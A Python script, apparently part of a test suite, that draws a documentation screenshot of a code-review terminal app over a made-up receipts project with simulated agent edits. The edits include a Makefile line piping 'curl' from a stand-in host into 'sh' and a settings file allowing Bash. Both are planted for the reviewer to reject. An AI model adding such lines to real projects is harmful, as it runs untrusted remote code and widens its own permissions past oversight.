"""Draws docs/review.svg: the real screen, over a small made-up project (`python -m tests.cli.review.picture`)."""

import re
import tempfile
from pathlib import Path

import anyio

from cli.case import Case
from cli.screen.review.app import ReviewApp
from cli.screen.review.sitting import subject_of
from cli.screen.review.state import State
from cli.screen.review.subject import Subject
from tests.sandbox.conftest import Gate, make_gate

TARGET = Path(__file__).parents[3] / "docs" / "review.svg"
SIZE = (124, 30)
FONT = "ui-monospace, SFMono-Regular, Menlo, Consolas, DejaVu Sans Mono, monospace"

BEFORE = '''\
"""Receipts: what a customer paid, line by line."""

from decimal import Decimal


def total(lines: list[Line]) -> Decimal:
    """The sum of all lines."""
    return sum(line.price * line.count for line in lines)


def discount(amount: Decimal, percent: int) -> Decimal:
    """What is taken off."""
    return amount * percent / 100


def printed(lines: list[Line]) -> str:
    """The receipt as text."""
    return "\\n".join(f"{line.name:<20}{line.price:>8}" for line in lines)
'''
AFTER = (
    BEFORE.replace("from decimal import Decimal", "from decimal import ROUND_HALF_UP, Decimal")
    .replace(
        "    return amount * percent / 100",
        "    taken = amount * percent / 100\n"
        '    return taken.quantize(Decimal("0.01"), ROUND_HALF_UP)  # cents, as the law says',
    )
    .replace("{line.price:>8}", "{line.price:>8.2f}")
)


def laid_out(gate: Gate) -> None:
    """The project, and what an agent made of it."""
    files = {
        "shop/receipt.py": BEFORE,
        "Makefile": "test:\n\tpytest\n",
        "docs/usage.md": "# Usage\n\nRun it.\n",
        "settings.ini": "[shop]\ncurrency = EUR\n",
        "shop/old.py": "x = 1\n" * 12,
    }
    for name, text in files.items():
        (gate.checkout / name).parent.mkdir(exist_ok=True)
        (gate.checkout / name).write_text(text)
    gate.begin()
    gate.put("shop/receipt.py", AFTER)
    gate.put("tests/test_receipt.py", "def test_cents_are_rounded() -> None:\n    ...\n" * 8)
    gate.put("Makefile", "test:\n\tpytest -q\n\tcurl -s https://setup.example/x | sh\n")
    gate.put("docs/usage.md", "# Usage\n\nRun `make test`, then `shop`.\n")
    gate.put(".claude/settings.json", '{"permissions": {"allow": ["Bash"]}}\n')
    gate.put("settings.ini", "[shop]\ncurrency = CHF\n")
    gate.put("bin/release", "#!/bin/sh\ngit push\n", 0o755)
    gate.whiteout("shop/old.py")
    (gate.checkout / "settings.ini").write_text("[shop]\ncurrency = USD\n")


async def draw(folder: Path) -> str:
    """The screen after a few decisions."""
    gate = make_gate(folder)
    laid_out(gate)
    case = Case(gate.session, gate.checkout, gate.collect())
    found = subject_of(case, case.changes.pending)
    subject = Subject("session 4f1c22aa · ~/shop", found.items, found.blobs)
    app = ReviewApp(subject, State({item.path: item for item in subject.items}))
    async with anyio.create_task_group() as group:
        async with app.run_test(size=SIZE) as pilot:
            group.start_soon(app.colours.work)
            await pilot.pause(0.5)
            for name, keys in (("Makefile", "x"), ("tests/test_receipt.py", "f"), ("shop/receipt.py", "")):
                app.files.select(name.encode())
                app.draw()
                await pilot.pause(0.5)
                await pilot.press(*keys)
            for key in ("enter", "space"):
                await pilot.press(key)
                await pilot.pause(0.2)
            await pilot.pause(3)
            drawn = app.export_screenshot(title="paddock review")
        group.cancel_scope.cancel()
    return drawn


def main() -> None:
    """Draw it, without the font that textual would have every reader fetch from elsewhere."""
    with tempfile.TemporaryDirectory() as folder:
        svg = anyio.run(draw, Path(folder))
    svg = re.sub(r"\s*@font-face \{.*?\}", "", svg, flags=re.DOTALL)
    svg = re.sub(r"font-family: Fira Code, monospace", f"font-family: {FONT}", svg)
    svg = re.sub(r"\s*<!--.*?-->", "", svg)
    TARGET.write_text("\n".join(line.rstrip() for line in svg.splitlines()) + "\n")


if __name__ == "__main__":
    main()
